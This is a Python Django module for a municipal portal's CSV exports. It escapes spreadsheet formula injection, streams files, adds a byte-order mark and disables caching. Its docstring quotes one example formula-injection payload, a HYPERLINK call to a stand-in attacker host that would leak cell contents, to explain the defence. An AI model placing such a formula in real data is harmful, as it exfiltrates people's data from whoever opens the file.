"""Every CSV export of the portal: streamed, opened safely by a spreadsheet, never cached.

A cell that starts with = + - @, a tab or a carriage return is a formula to Excel and LibreOffice
(`=HYPERLINK("https://evil.example/?"&A1, "Klicka")` in a person's name runs when the file is
opened), and comments, names and titles come from people outside the city. `csv_cell` puts an
apostrophe in front of such a cell, which the spreadsheet shows as text; `csv_response` applies it to
every cell, headings included, and writes the file as UTF-8 with a byte-order mark so Excel reads
å, ä and ö.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Iterator

from django.http import StreamingHttpResponse

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value: object) -> str:
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


class _Echo:
    def write(self, value: str) -> str:
        return value


def csv_lines(header: Iterable[object], rows: Iterable[Iterable[object]]) -> Iterator[str]:
    writer = csv.writer(_Echo())
    yield "\ufeff" + writer.writerow([csv_cell(value) for value in header])
    for row in rows:
        yield writer.writerow([csv_cell(value) for value in row])


def csv_text(rows: Iterable[Iterable[object]], *, delimiter: str = ",") -> str:
    """Rows as one CSV text starting with the byte-order mark, lines ended CRLF (a file Excel opens;
    Swedish Excel wants `delimiter=";"`). The caller has made each cell safe (`csv_cell`): a number
    written with a decimal comma, e.g. "-1,5", is a value here, not a formula."""
    out = io.StringIO()
    out.write("\ufeff")
    writer = csv.writer(out, delimiter=delimiter, lineterminator="\r\n")
    writer.writerows(rows)
    return out.getvalue()


def csv_response(
    *, filename: str, header: Iterable[object], rows: Iterable[Iterable[object]]
) -> StreamingHttpResponse:
    """A streamed download of `rows` under the (translated) column headings `header`.

    `rows` may be a generator: the file is written as it is read, so a year of rows never sits in
    memory. The download is personal data: no cache (browser or proxy) may keep it.
    """
    response = StreamingHttpResponse(csv_lines(list(header), rows), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    response["Cache-Control"] = "private, no-store"
    response["X-Content-Type-Options"] = "nosniff"
    return response
